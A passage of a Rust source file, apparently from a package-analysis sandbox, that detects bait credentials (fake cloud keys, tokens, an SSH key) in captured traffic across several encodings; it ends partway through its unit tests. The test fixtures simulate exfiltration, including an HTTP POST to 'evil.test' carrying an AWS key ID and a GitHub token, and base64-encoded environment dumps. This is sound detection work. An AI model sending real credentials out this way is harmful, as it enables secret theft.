//! Exfiltration proof: finding bait secrets in captured traffic.
//!
//! The sandbox is seeded with bait secrets (fake cloud keys, registry
//! tokens, SSH private keys). If any bait value shows up in traffic the
//! sandbox sent (an HTTP request's target, headers or body, a DNS query
//! name, the first bytes of a TLS or unknown TCP stream, a UDP datagram),
//! plainly or in a common encoding, the package exfiltrated it.
//!
//! A [`Detector`] is built once per analysis from the bait secrets. It
//! precomputes every encoded form of every secret (the "needles") into a
//! single Aho-Corasick automaton, then [`Detector::scan`] runs that
//! automaton over the haystack and over a few transformed copies of it:
//!
//! * the haystack as captured: plain bytes, base64 and base64url (at every
//!   byte alignment, so a secret inside a larger encoded blob is found),
//!   hex, percent-encoding and base32;
//! * the haystack with `\r` and `\n` removed: line-wrapped (MIME-style)
//!   base64, base64url and hex;
//! * the haystack percent-decoded once (and, if it contains `+`, form-decoded
//!   once): partially percent-encoded values;
//! * the haystack with `.` removed: values split into DNS labels, plainly,
//!   in hex or in base32, compared case-insensitively.
//!
//! The scan never panics and its work is linear in the haystack length
//! (times a small constant for the transformed copies), for haystacks of
//! up to [`MAX_SCAN_LEN`] bytes; bytes beyond that are not scanned.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::fmt;

use aho_corasick::{AhoCorasick, Input, MatchKind};
use serde::{Deserialize, Serialize};

/// Secrets whose value is shorter than this many bytes are ignored: they
/// would match innocent traffic by chance.
pub const MIN_SECRET_LEN: usize = 8;

/// Secrets longer than this many bytes are additionally split into lines,
/// and each line of at least [`MIN_LINE_LEN`] bytes becomes a needle of
/// its own, so a partial dump (for example a few lines of a PEM key body)
/// is caught.
pub const LINE_SPLIT_THRESHOLD: usize = 64;

/// Shortest line of a long secret that becomes a needle of its own.
pub const MIN_LINE_LEN: usize = 16;

/// Only the first this many bytes of a haystack are scanned.
pub const MAX_SCAN_LEN: usize = 64 * 1024 * 1024;

/// Only the first this many secrets given to [`Detector::new`] are used.
pub const MAX_SECRETS: usize = 256;

/// Whole-value needles are built from at most this many leading bytes of
/// a secret (the lines of a longer secret still become needles).
const MAX_WHOLE_VALUE_LEN: usize = 16 * 1024;

/// At most this many lines of one long secret become needles.
const MAX_LINES_PER_SECRET: usize = 512;

/// Shortest base64 or base32 core (in characters) that is searched for.
const MIN_CORE_LEN: usize = 8;

/// Longest excerpt, in characters.
const EXCERPT_MAX_CHARS: usize = 120;

/// Bytes of context shown before and after a match in an excerpt.
const EXCERPT_CONTEXT: usize = 24;

/// Distance in haystack bytes between the offset checkpoints kept for a
/// transformed copy of the haystack.
const CHECKPOINT_STRIDE: usize = 256;

const BASE64_STANDARD_ALPHABET: &[u8; 64] =
    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const BASE64_URL_ALPHABET: &[u8; 64] =
    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const BASE32_LOWER_ALPHABET: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";

/// A bait secret planted in the sandbox.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Secret {
    /// Where the secret was planted, e.g. `env:AWS_SECRET_ACCESS_KEY` or
    /// `file:/root/.ssh/id_rsa`. Reported back in every [`Match`].
    pub label: String,
    /// The secret's exact bytes.
    pub value: Vec<u8>,
}

/// How a secret was encoded where it was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Encoding {
    /// The exact bytes of the secret.
    #[serde(rename = "plain")]
    Plain,
    /// Standard base64 (`+` and `/`), padded or not, possibly line-wrapped,
    /// possibly as part of a larger encoded blob.
    #[serde(rename = "base64")]
    Base64,
    /// URL-safe base64 (`-` and `_`), padded or not, possibly as part of a
    /// larger encoded blob.
    #[serde(rename = "base64url")]
    Base64Url,
    /// Hexadecimal, upper or lower case.
    #[serde(rename = "hex")]
    Hex,
    /// Percent-encoding (fully or partially), including the form-encoding
    /// variant where a space is `+`.
    #[serde(rename = "url-encoded")]
    UrlEncoded,
    /// Split into DNS labels (plain, hex or base32, any letter case), or
    /// base32 anywhere.
    #[serde(rename = "dns-labels")]
    DnsLabels,
}

impl Encoding {
    /// The encoding's stable name: `plain`, `base64`, `base64url`, `hex`,
    /// `url-encoded` or `dns-labels`.
    pub fn as_str(self) -> &'static str {
        match self {
            Encoding::Plain => "plain",
            Encoding::Base64 => "base64",
            Encoding::Base64Url => "base64url",
            Encoding::Hex => "hex",
            Encoding::UrlEncoded => "url-encoded",
            Encoding::DnsLabels => "dns-labels",
        }
    }
}

impl fmt::Display for Encoding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A bait secret found in a haystack.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Match {
    /// The label of the secret that was found.
    pub label: String,
    /// How the secret was encoded.
    pub encoding: Encoding,
    /// Byte offset in the haystack where the (encoded) secret starts. For
    /// matches found in a transformed copy of the haystack (line-wrapped,
    /// percent-decoded, split into DNS labels) this is mapped back to the
    /// original haystack.
    pub offset: usize,
    /// Printable excerpt of the haystack around the match, at most 120
    /// characters; bytes outside printable ASCII, and `\`, are escaped.
    pub excerpt: String,
}

/// The form a needle takes, which decides how a candidate match is
/// verified and reported.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Kind {
    /// The secret's bytes.
    Plain,
    /// A standard base64 core.
    Base64,
    /// A URL-safe base64 core that differs from the standard one.
    Base64Url,
    /// Lowercase hex (matched in any case).
    Hex,
    /// Percent-encoding with uppercase hex digits (matched with the hex
    /// digits in any case, the other characters exactly).
    Percent,
    /// A lowercase base32 core (matched in any case).
    Base32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Needle {
    /// Index into [`Detector::labels`].
    label: usize,
    kind: Kind,
}

/// Finds bait secrets in captured traffic. Build it once per analysis
/// with [`Detector::new`] and call [`Detector::scan`] on each piece of
/// traffic.
#[derive(Debug, Clone)]
pub struct Detector {
    labels: Vec<String>,
    /// Indexed by the automaton's pattern id.
    needles: Vec<Needle>,
    /// Indexed by the automaton's pattern id.
    patterns: Vec<Vec<u8>>,
    /// Case-insensitive, overlapping-capable automaton over `patterns`;
    /// `None` when there is nothing to look for.
    automaton: Option<AhoCorasick>,
}

impl Detector {
    /// Builds a detector for `secrets`, precomputing every needle.
    ///
    /// Secrets shorter than [`MIN_SECRET_LEN`] bytes are ignored, as are
    /// secrets beyond the first [`MAX_SECRETS`].
    pub fn new(secrets: Vec<Secret>) -> Self {
        let mut builder = NeedleBuilder::default();
        for secret in secrets.into_iter().take(MAX_SECRETS) {
            if secret.value.len() < MIN_SECRET_LEN {
                continue;
            }
            let label = builder.labels.len();
            builder.labels.push(secret.label);
            let whole = secret
                .value
                .get(..MAX_WHOLE_VALUE_LEN)
                .unwrap_or(&secret.value);
            builder.add_value(label, whole);
            if secret.value.len() > LINE_SPLIT_THRESHOLD {
                let mut lines = 0;
                for line in secret.value.split(|&b| b == b'\n') {
                    if lines >= MAX_LINES_PER_SECRET {
                        break;
                    }
                    let line = line.trim_ascii();
                    if line.len() < MIN_LINE_LEN || line == whole || is_pem_armor(line) {
                        continue;
                    }
                    let line = line.get(..MAX_WHOLE_VALUE_LEN).unwrap_or(line);
                    builder.add_value(label, line);
                    lines += 1;
                }
            }
        }
        let automaton = if builder.patterns.is_empty() {
            None
        } else {
            match AhoCorasick::builder()
                .match_kind(MatchKind::Standard)
                .ascii_case_insensitive(true)
                .build(&builder.patterns)
            {
                Ok(automaton) => Some(automaton),
                Err(error) => {
                    tracing::warn!(%error, "cannot build the exfiltration detector's automaton");
                    None
                }
            }
        };
        Detector {
            labels: builder.labels,
            needles: builder.needles,
            patterns: builder.patterns,
            automaton,
        }
    }

    /// Looks for every secret in `haystack`, in every supported encoding.
    ///
    /// Returns at most one match per (label, encoding) pair. Matches in the
    /// haystack as captured take precedence over matches in its
    /// transformed copies; among matches in the same copy, the one that
    /// starts first is kept. The result is sorted by offset, then label,
    /// then encoding.
    pub fn scan(&self, haystack: &[u8]) -> Vec<Match> {
        let Some(automaton) = &self.automaton else {
            return Vec::new();
        };
        let raw = haystack.get(..MAX_SCAN_LEN).unwrap_or(haystack);
        if raw.is_empty() {
            return Vec::new();
        }
        // The pass that found each pair, the start of the match in that
        // pass's copy of the haystack, and the match.
        let mut found: HashMap<(usize, Encoding), (Pass, usize, Match)> = HashMap::new();
        for pass in Pass::ALL {
            if !pass.applies_to(raw) {
                continue;
            }
            let view = View::new(pass, raw);
            let Ok(candidates) = automaton.try_find_overlapping_iter(Input::new(&*view.data))
            else {
                continue;
            };
            // Candidates come in order of their end, so a later candidate
            // can still start earlier (a longer needle of the same pair).
            for candidate in candidates {
                let id = candidate.pattern().as_usize();
                let (Some(needle), Some(pattern)) = (self.needles.get(id), self.patterns.get(id))
                else {
                    continue;
                };
                let Some(encoding) = pass.encoding(needle.kind) else {
                    continue;
                };
                let key = (needle.label, encoding);
                if let Some((found_pass, found_start, _)) = found.get(&key) {
                    if *found_pass != pass || *found_start <= candidate.start() {
                        continue;
                    }
                }
                let Some(span) = view.data.get(candidate.start()..candidate.end()) else {
                    continue;
                };
                if !verify(pass, needle.kind, span, pattern) {
                    continue;
                }
                let (raw_start, raw_end) = view.raw_span(candidate.start(), span.len());
                let raw_span = raw.get(raw_start..raw_end).unwrap_or(&[]);
                if !transformation_involved(pass, needle.kind, raw_span, span, pattern) {
                    continue;
                }
                let found_match = Match {
                    label: self.labels.get(needle.label).cloned().unwrap_or_default(),
                    encoding,
                    offset: raw_start,
                    excerpt: excerpt(raw, raw_start, raw_end),
                };
                found.insert(key, (pass, candidate.start(), found_match));
            }
        }
        let mut matches: Vec<Match> = found.into_values().map(|(_, _, m)| m).collect();
        matches.sort_by(|a, b| {
            (a.offset, &a.label, a.encoding).cmp(&(b.offset, &b.label, b.encoding))
        });
        matches
    }
}

/// Collects needles, without duplicates, for [`Detector::new`].
#[derive(Debug, Default)]
struct NeedleBuilder {
    labels: Vec<String>,
    needles: Vec<Needle>,
    patterns: Vec<Vec<u8>>,
    seen: HashSet<(usize, Kind, Vec<u8>)>,
}

impl NeedleBuilder {
    fn push(&mut self, label: usize, kind: Kind, pattern: Vec<u8>) {
        if pattern.is_empty() || !self.seen.insert((label, kind, pattern.clone())) {
            return;
        }
        self.needles.push(Needle { label, kind });
        self.patterns.push(pattern);
    }

    /// Adds every encoded form of `value` under `label`.
    fn add_value(&mut self, label: usize, value: &[u8]) {
        self.push(label, Kind::Plain, value.to_vec());
        for shift in 0..3 {
            let standard = encoded_core(value, shift, 6, BASE64_STANDARD_ALPHABET);
            if standard.len() < MIN_CORE_LEN {
                continue;
            }
            let url = encoded_core(value, shift, 6, BASE64_URL_ALPHABET);
            if url != standard {
                self.push(label, Kind::Base64Url, url);
            }
            self.push(label, Kind::Base64, standard);
        }
        self.push(label, Kind::Hex, hex::encode(value).into_bytes());
        let percent = percent_encode(value, false);
        let form = percent_encode(value, true);
        if percent != value {
            self.push(label, Kind::Percent, percent);
        }
        if form != value {
            self.push(label, Kind::Percent, form);
        }
        for shift in 0..5 {
            let core = encoded_core(value, shift, 5, BASE32_LOWER_ALPHABET);
            if core.len() >= MIN_CORE_LEN {
                self.push(label, Kind::Base32, core);
            }
        }
    }
}

/// Whether `line` is a PEM armor line such as
/// `-----BEGIN OPENSSH PRIVATE KEY-----`, which is not secret.
fn is_pem_armor(line: &[u8]) -> bool {
    line.starts_with(b"-----") && line.ends_with(b"-----")
}

/// The characters of the base-2^`bits` encoding of `value` that depend
/// only on `value`, when `value` is preceded by `shift` bytes of unknown
/// data and followed by unknown data (or the end of the encoded blob).
///
/// Characters whose bits come partly from the preceding bytes are
/// dropped at the start, and characters whose bits come partly from the
/// following bytes (or from padding) are dropped at the end.
fn encoded_core(value: &[u8], shift: usize, bits: usize, alphabet: &[u8]) -> Vec<u8> {
    let total_bits = 8 * (shift + value.len());
    let first = (8 * shift).div_ceil(bits);
    let last = total_bits / bits;
    let mut out = Vec::with_capacity(last.saturating_sub(first));
    for index in first..last {
        let mut symbol = 0usize;
        for k in 0..bits {
            let bit = index * bits + k;
            let byte = (bit / 8)
                .checked_sub(shift)
                .and_then(|i| value.get(i))
                .copied()
                .unwrap_or(0);
            symbol = (symbol << 1) | usize::from((byte >> (7 - bit % 8)) & 1);
        }
        out.push(alphabet.get(symbol).copied().unwrap_or(b'='));
    }
    out
}

/// The bytes percent-encoded: all but the URL unreserved characters
/// (`A-Z a-z 0-9 - . _ ~`).
const NOT_UNRESERVED: &percent_encoding::AsciiSet = &percent_encoding::NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'.')
    .remove(b'_')
    .remove(b'~');

/// Percent-encodes every byte of `value` outside the URL unreserved
/// characters, with uppercase hex digits; with `form`, a space becomes `+`
/// instead of `%20`.
fn percent_encode(value: &[u8], form: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(value.len() * 3);
    for (i, piece) in value.split(|&b| form && b == b' ').enumerate() {
        if i > 0 {
            out.push(b'+');
        }
        for chunk in percent_encoding::percent_encode(piece, NOT_UNRESERVED) {
            out.extend_from_slice(chunk.as_bytes());
        }
    }
    out
}

/// The value of one hex digit, in either case.
fn hex_digit(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// A view of the haystack the automaton runs over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pass {
    /// The haystack as captured.
    Raw,
    /// The haystack with `\r` and `\n` removed.
    StripNewlines,
    /// The haystack percent-decoded once.
    PercentDecode,
    /// The haystack form-decoded once (`%XX` and `+` as space).
    FormDecode,
    /// The haystack with `.` removed.
    StripDots,
}

impl Pass {
    /// Every pass, in the order they run: the first match of a (label,
    /// encoding) pair wins, so the haystack as captured comes first.
    const ALL: [Pass; 5] = [
        Pass::Raw,
        Pass::StripNewlines,
        Pass::PercentDecode,
        Pass::FormDecode,
        Pass::StripDots,
    ];

    /// Whether the pass can find anything the earlier passes cannot.
    fn applies_to(self, raw: &[u8]) -> bool {
        match self {
            Pass::Raw => true,
            Pass::StripNewlines => raw.iter().any(|&b| b == b'\r' || b == b'\n'),
            Pass::PercentDecode => raw.contains(&b'%'),
            Pass::FormDecode => raw.contains(&b'+'),
            Pass::StripDots => raw.contains(&b'.'),
        }
    }

    /// One step of the transformation at `raw[i]`: how many raw bytes it
    /// consumes (at least one) and the byte it produces, if any.
    fn step(self, raw: &[u8], i: usize) -> (usize, Option<u8>) {
        let Some(&b) = raw.get(i) else {
            return (1, None);
        };
        match self {
            Pass::Raw => (1, Some(b)),
            Pass::StripNewlines if b == b'\r' || b == b'\n' => (1, None),
            Pass::StripDots if b == b'.' => (1, None),
            Pass::StripNewlines | Pass::StripDots => (1, Some(b)),
            Pass::PercentDecode | Pass::FormDecode => {
                if b == b'%' {
                    let high = raw.get(i + 1).copied().and_then(hex_digit);
                    let low = raw.get(i + 2).copied().and_then(hex_digit);
                    if let (Some(high), Some(low)) = (high, low) {
                        return (3, Some(high << 4 | low));
                    }
                }
                if b == b'+' && self == Pass::FormDecode {
                    return (1, Some(b' '));
                }
                (1, Some(b))
            }
        }
    }

    /// The encoding reported for a needle of `kind` found in this pass, or
    /// `None` if such needles are not looked for in this pass.
    fn encoding(self, kind: Kind) -> Option<Encoding> {
        match (self, kind) {
            (Pass::StripNewlines, Kind::Plain | Kind::Percent) => None,
            (Pass::StripDots, Kind::Plain | Kind::Hex | Kind::Base32) => Some(Encoding::DnsLabels),
            (Pass::StripDots, _) => None,
            (Pass::PercentDecode | Pass::FormDecode, Kind::Plain) => Some(Encoding::UrlEncoded),
            (_, Kind::Plain) => Some(Encoding::Plain),
            (_, Kind::Base64) => Some(Encoding::Base64),
            (_, Kind::Base64Url) => Some(Encoding::Base64Url),
            (_, Kind::Hex) => Some(Encoding::Hex),
            (_, Kind::Percent) => Some(Encoding::UrlEncoded),
            (_, Kind::Base32) => Some(Encoding::DnsLabels),
        }
    }
}

/// Whether a case-insensitive automaton match `span` of `pattern` really
/// is a match for a needle of `kind` in `pass`.
fn verify(pass: Pass, kind: Kind, span: &[u8], pattern: &[u8]) -> bool {
    match kind {
        Kind::Plain if pass == Pass::StripDots => true,
        Kind::Plain | Kind::Base64 | Kind::Base64Url => span == pattern,
        Kind::Percent => verify_percent(span, pattern),
        Kind::Hex | Kind::Base32 => true,
    }
}

/// Whether `span` equals the percent-encoded `pattern`, comparing the hex
/// digits of `%XX` escapes case-insensitively and everything else exactly.
fn verify_percent(span: &[u8], pattern: &[u8]) -> bool {
    if span.len() != pattern.len() {
        return false;
    }
    let mut escape_digits = 0;
    span.iter().zip(pattern).all(|(&s, &p)| {
        if escape_digits > 0 {
            escape_digits -= 1;
            s.eq_ignore_ascii_case(&p)
        } else {
            if p == b'%' {
                escape_digits = 2;
            }
            s == p
        }
    })
}

/// Whether a match in a transformed pass is due to the transformation,
/// rather than something the raw pass already reports under the needle's
/// own encoding. `raw_span` is the match's extent in the original
/// haystack and `span` its extent in the transformed copy.
fn transformation_involved(
    pass: Pass,
    kind: Kind,
    raw_span: &[u8],
    span: &[u8],
    pattern: &[u8],
) -> bool {
    match (pass, kind) {
        // Dots removed from inside the match, or the letter case differs.
        (Pass::StripDots, Kind::Plain) => raw_span != pattern,
        (Pass::StripDots, _) => raw_span.len() != span.len(),
        (Pass::PercentDecode | Pass::FormDecode, Kind::Plain) => raw_span != span,
        _ => true,
    }
}

/// The haystack as seen by one pass, with enough bookkeeping to map
/// offsets in the transformed copy back to the original haystack.
#[derive(Debug)]
struct View<'a> {
    pass: Pass,
    raw: &'a [u8],
    data: Cow<'a, [u8]>,
    /// `(raw offset, bytes produced before it)` at step boundaries, about
    /// every [`CHECKPOINT_STRIDE`] raw bytes, starting with `(0, 0)`.
    checkpoints: Vec<(usize, usize)>,
}

impl<'a> View<'a> {
    fn new(pass: Pass, raw: &'a [u8]) -> Self {
        if pass == Pass::Raw {
            return View {
                pass,
                raw,
                data: Cow::Borrowed(raw),
                checkpoints: Vec::new(),
            };
        }
        let mut data = Vec::with_capacity(raw.len());
        let mut checkpoints = Vec::with_capacity(raw.len() / CHECKPOINT_STRIDE + 1);
        let mut next_checkpoint = 0;
        let mut i = 0;
        while i < raw.len() {
            if i >= next_checkpoint {
                checkpoints.push((i, data.len()));
                next_checkpoint = i + CHECKPOINT_STRIDE;
            }
            let (consumed, produced) = pass.step(raw, i);
            if let Some(b) = produced {
                data.push(b);
            }
            i += consumed;
        }
        View {
            pass,
            raw,
            data: Cow::Owned(data),
            checkpoints,
        }
    }

    /// The raw offset of the step producing byte `target` of the
    /// transformed copy (the raw length if there is no such byte). Walks
    /// at most about [`CHECKPOINT_STRIDE`] raw bytes.
    fn raw_offset(&self, target: usize) -> usize {
        if self.pass == Pass::Raw {
            return target.min(self.raw.len());
        }
        let index = self
            .checkpoints
            .partition_point(|&(_, produced)| produced <= target)
            .saturating_sub(1);
        let (mut r, mut produced) = self.checkpoints.get(index).copied().unwrap_or((0, 0));
        while r < self.raw.len() {
            let (consumed, byte) = self.pass.step(self.raw, r);
            if byte.is_some() {
                if produced == target {
                    return r;
                }
                produced += 1;
            }
            r += consumed;
        }
        self.raw.len()
    }

    /// The raw extent `(start, end)` of the `len` transformed bytes
    /// starting at `start`.
    fn raw_span(&self, start: usize, len: usize) -> (usize, usize) {
        let raw_start = self.raw_offset(start);
        let Some(last) = (start + len).checked_sub(1).filter(|_| len > 0) else {
            return (raw_start, raw_start);
        };
        let raw_last = self.raw_offset(last);
        let (consumed, _) = self.pass.step(self.raw, raw_last);
        let raw_end = raw_last.saturating_add(consumed).min(self.raw.len());
        (raw_start, raw_end.max(raw_start))
    }
}

/// A printable excerpt of `raw` around `start..end`, at most
/// [`EXCERPT_MAX_CHARS`] characters.
fn excerpt(raw: &[u8], start: usize, end: usize) -> String {
    let low = start.saturating_sub(EXCERPT_CONTEXT).min(raw.len());
    let high = end.saturating_add(EXCERPT_CONTEXT).min(raw.len()).max(low);
    let mut out = String::with_capacity(EXCERPT_MAX_CHARS);
    for &b in raw.get(low..high).unwrap_or(&[]) {
        let piece = match b {
            b'\\' => "\\\\".to_owned(),
            b'\n' => "\\n".to_owned(),
            b'\r' => "\\r".to_owned(),
            b'\t' => "\\t".to_owned(),
            0x20..=0x7e => char::from(b).to_string(),
            _ => format!("\\x{b:02x}"),
        };
        if out.len() + piece.len() > EXCERPT_MAX_CHARS {
            break;
        }
        out.push_str(&piece);
    }
    out
}

#[cfg(test)]
mod tests {
    use paddock_testkit::rng::XorShift;

    use super::*;
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    use base64::Engine;

    const AWS_KEY_ID: &str = "AKIAIOSFODNN7EXAMPLQ";
    const AWS_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    const GITHUB_TOKEN: &str = "ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ";
    const NPM_TOKEN: &str = "npm_Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0FeDcBa";
    const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\n\
        b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n\
        QyNTUxOQAAACDqJ3m4mQ7z0Lx2v5bW1c9yQh3Kp8sT6uVn0aXoZr4YbQAAAJgq7Yl3Ku2J\n\
        dwAAAAtzc2gtZWQyNTUxOQAAACDqJ3m4mQ7z0Lx2v5bW1c9yQh3Kp8sT6uVn0aXoZr4YbQ\n\
        -----END OPENSSH PRIVATE KEY-----\n";

    fn secret(label: &str, value: &str) -> Secret {
        Secret {
            label: label.to_owned(),
            value: value.as_bytes().to_vec(),
        }
    }

    fn bait() -> Vec<Secret> {
        vec![
            secret("env:AWS_ACCESS_KEY_ID", AWS_KEY_ID),
            secret("env:AWS_SECRET_ACCESS_KEY", AWS_SECRET),
            secret("env:GITHUB_TOKEN", GITHUB_TOKEN),
            secret("file:/root/.npmrc", NPM_TOKEN),
            secret("file:/root/.ssh/id_ed25519", SSH_KEY),
        ]
    }

    fn detector() -> Detector {
        Detector::new(bait())
    }

    fn has(matches: &[Match], label: &str, encoding: Encoding) -> bool {
        matches
            .iter()
            .any(|m| m.label == label && m.encoding == encoding)
    }

    fn base32_lower(value: &[u8]) -> String {
        String::from_utf8(encoded_core(value, 0, 5, BASE32_LOWER_ALPHABET)).unwrap()
            + &{
                // The final partial character, zero-padded, as an encoder
                // would emit it.
                let rem = (value.len() * 8) % 5;
                if rem == 0 {
                    String::new()
                } else {
                    let last = value.last().copied().unwrap_or(0);
                    let symbol = usize::from((last << (8 - rem)) >> 3);
                    char::from(BASE32_LOWER_ALPHABET[symbol]).to_string()
                }
            }
    }

    #[test]
    fn encoding_names() {
        let names: Vec<&str> = [
            Encoding::Plain,
            Encoding::Base64,
            Encoding::Base64Url,
            Encoding::Hex,
            Encoding::UrlEncoded,
            Encoding::DnsLabels,
        ]
        .iter()
        .map(|e| e.as_str())
        .collect();
        assert_eq!(
            names,
            [
                "plain",
                "base64",
                "base64url",
                "hex",
                "url-encoded",
                "dns-labels"
            ]
        );
        assert_eq!(Encoding::UrlEncoded.to_string(), "url-encoded");
        assert_eq!(
            serde_json::to_string(&Encoding::Base64Url).unwrap(),
            "\"base64url\""
        );
    }

    #[test]
    fn base64_core_matches_the_base64_crate() {
        let mut rng = XorShift(0x1234_5678_9abc_def1);
        for len in 8..40 {
            let value = rng.fill(len);
            let core = encoded_core(&value, 0, 6, BASE64_STANDARD_ALPHABET);
            let full = STANDARD_NO_PAD.encode(&value);
            assert!(full.as_bytes().starts_with(&core));
            assert_eq!(core.len(), len * 8 / 6);
            for shift in 0..3 {
                let prefix = rng.fill(shift + 3 * (len % 2));
                let suffix = rng.fill(len % 3);
                let blob = [prefix.clone(), value.clone(), suffix].concat();
                let core = encoded_core(&value, shift, 6, BASE64_STANDARD_ALPHABET);
                let encoded = STANDARD.encode(&blob);
                assert!(
                    encoded.contains(std::str::from_utf8(&core).unwrap()),
                    "shift {shift}"
                );
            }
        }
    }

    #[test]
    fn plain_in_http_request() {
        let request = format!(
            "POST /upload HTTP/1.1\r\nHost: evil.test\r\nX-Key: {AWS_KEY_ID}\r\n\r\n{{\"t\":\"{GITHUB_TOKEN}\"}}"
        );
        let matches = detector().scan(request.as_bytes());
        assert!(has(&matches, "env:AWS_ACCESS_KEY_ID", Encoding::Plain));
        assert!(has(&matches, "env:GITHUB_TOKEN", Encoding::Plain));
        let key = matches
            .iter()
            .find(|m| m.label == "env:AWS_ACCESS_KEY_ID")
            .unwrap();
        assert_eq!(key.offset, request.find(AWS_KEY_ID).unwrap());
        assert!(key.excerpt.contains(AWS_KEY_ID));
        assert!(key.excerpt.contains("\\r\\n"));
    }

    #[test]
    fn base64_at_every_alignment_inside_env_dump() {
        let detector = detector();
        let mut alignments = HashSet::new();
        for pad in 0..6 {
            let json = format!(
                "{{\"HOME\":\"/root\",\"PAD\":\"{}\",\"AWS_SECRET_ACCESS_KEY\":\"{AWS_SECRET}\",\"PATH\":\"/usr/bin\"}}",
                "x".repeat(pad)
            );
            alignments.insert(json.find(AWS_SECRET).unwrap() % 3);
            for encoded in [STANDARD.encode(&json), STANDARD_NO_PAD.encode(&json)] {
                let body = format!("POST /c HTTP/1.1\r\n\r\nd={encoded}");
                let matches = detector.scan(body.as_bytes());
                assert!(
                    has(&matches, "env:AWS_SECRET_ACCESS_KEY", Encoding::Base64),
                    "pad {pad}: {matches:?}"
                );
                assert!(!has(&matches, "env:AWS_SECRET_ACCESS_KEY", Encoding::Plain));
            }
        }
        assert_eq!(alignments.len(), 3);
    }

    #[test]
    fn base64url_at_every_alignment() {
        // 0xff bytes make '/' in standard base64 and '_' in URL-safe base64
        // at every alignment.
        let value = b"\xff\xff\xff\xfeexfil-me-please\xff\xff\xff\xfb".to_vec();
        let detector = Detector::new(vec![Secret {
            label: "file:/root/blob".to_owned(),
            value: value.clone(),
        }]);
        for shift in 0..3 {
            let blob = [b"abc"[..shift].to_vec(), value.clone(), b"tail".to_vec()].concat();
            let url = URL_SAFE_NO_PAD.encode(&blob);
            let matches = detector.scan(format!("GET /?q={url} HTTP/1.1").as_bytes());
            assert!(
                has(&matches, "file:/root/blob", Encoding::Base64Url),
                "{shift}"
            );
            assert!(!has(&matches, "file:/root/blob", Encoding::Base64));
            let standard = STANDARD.encode(&blob);
            let matches = detector.scan(standard.as_bytes());
            assert!(
                has(&matches, "file:/root/blob", Encoding::Base64),
                "{shift}"
            );
            assert!(!has(&matches, "file:/root/blob", Encoding::Base64Url));
        }
    }

    #[test]
    fn line_wrapped_base64() {
        let json = format!("{{\"NPM_TOKEN\":\"{NPM_TOKEN}\",\"USER\":\"root\"}}");
        let encoded = STANDARD.encode(&json);
        // Wrap at 16 characters so every core crosses a line break.
        let wrapped: Vec<&str> = encoded
            .as_bytes()
            .chunks(16)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        let body = format!(
            "Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            wrapped.join("\r\n")
        );
        let matches = detector().scan(body.as_bytes());
        assert!(
            has(&matches, "file:/root/.npmrc", Encoding::Base64),
            "{matches:?}"
        );
        let found = matches
            .iter()
            .find(|m| m.label == "file:/root/.npmrc")
            .unwrap();
        assert!(found.offset > body.find("\r\n\r\n").unwrap());
        assert!(found.offset < body.len());
    }

    #[test]
    fn hex_in_either_case() {
        let detector = detector();
        let lower = hex::encode(GITHUB_TOKEN);
        let matches = detector.scan(format!("x={lower}").as_bytes());
        assert!(has(&matches, "env:GITHUB_TOKEN", Encoding::Hex));
        assert_eq!(matches[0].offset, 2);
        let upper = hex::encode_upper(GITHUB_TOKEN);
        let matches = detector.scan(format!("x={upper}").as_bytes());
        assert!(has(&matches, "env:GITHUB_TOKEN", Encoding::Hex));
        assert!(!has(&matches, "env:GITHUB_TOKEN", Encoding::DnsLabels));
    }

    #[test]
    fn url_encoded_query_string() {
        let detector = detector();
        // Lowercase hex digits in the escapes.
        let encoded = AWS_SECRET.replace('/', "%2f");
        let request = format!("GET /collect?id={AWS_KEY_ID}&k={encoded} HTTP/1.1\r\n\r\n");
        let matches = detector.scan(request.as_bytes());
        assert!(has(
            &matches,
            "env:AWS_SECRET_ACCESS_KEY",
            Encoding::UrlEncoded
        ));
        assert!(has(&matches, "env:AWS_ACCESS_KEY_ID", Encoding::Plain));
        let found = matches
            .iter()
            .find(|m| m.label == "env:AWS_SECRET_ACCESS_KEY")
            .unwrap();
        assert_eq!(found.offset, request.find("wJalr").unwrap());

        // Fully encoded, uppercase escapes.
        let full = String::from_utf8(percent_encode(AWS_SECRET.as_bytes(), false)).unwrap();
        let matches = detector.scan(format!("k={full}").as_bytes());
        assert!(has(
            &matches,
            "env:AWS_SECRET_ACCESS_KEY",
            Encoding::UrlEncoded
        ));
    }

    #[test]
    fn url_encoded_form_and_partial() {
        let detector = Detector::new(vec![
            secret("env:PASSPHRASE", "correct horse battery/staple"),
            secret("env:TOKEN", "a+b/c=d&e?f#g!h"),
        ]);
        let body = "user=root&pass=correct+horse+battery%2Fstaple";
        let matches = detector.scan(body.as_bytes());
        assert!(
            has(&matches, "env:PASSPHRASE", Encoding::UrlEncoded),
            "{matches:?}"
        );
        assert_eq!(matches[0].offset, body.find("correct").unwrap());

